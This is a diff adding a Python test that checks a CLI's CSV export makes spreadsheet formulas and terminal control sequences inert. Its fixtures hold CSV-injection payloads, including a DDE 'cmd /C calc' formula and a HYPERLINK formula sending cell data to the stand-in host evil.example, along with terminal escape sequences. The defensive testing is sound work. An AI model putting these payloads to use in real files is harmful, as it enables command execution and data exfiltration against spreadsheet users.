@@ -67,3 +67,21 @@ def test_the_documented_queries_run_on_a_real_store(tmp_path: Path) -> None:
     assert all(results), "every documented query returns rows on a store with runs"
     for table in ("runs", "run_summaries", "steps", "run_counts", "meta"):
         assert table in tables and f"`{table}`" in doc
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_or_a_terminal_obey_are_made_inert(tmp_path: Path) -> None:
+    hostile = fake(1, target="@SUM(A1:A9)")
+    hostile["model"] = "+cmd|' /C calc'!A0"
+    hostile["text"] = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
+    hostile["error"] = {"type": "-2+3", "message": "\tlead tab \x1b]0;owned\x07 bell, \r\nline two\x00"}
+    safe = fake(2)
+    safe["text"] = "a - b = c @ home\nsecond line"
+    write_runs(tmp_path, hostile, safe)
+    done = cli("runs", str(tmp_path), "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    first, second = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
+    assert first["target"] == "'@SUM(A1:A9)" and first["model"] == "'+cmd|' /C calc'!A0" and first["error_type"] == "'-2+3"
+    assert first["text"] == "'" + hostile["text"]
+    assert first["error_message"] == "\\tlead tab \\x1b]0;owned\\x07 bell, \\r\nline two\\x00"  # shown, never obeyed
+    assert not any(ch in done.stdout.replace("\r\n", "").replace("\n", "") for ch in "\x1b\x07\x00\t")
+    assert second["text"] == "a - b = c @ home\nsecond line" and second["duration_ms"] == "1502.0"  # plain text and numbers as they were
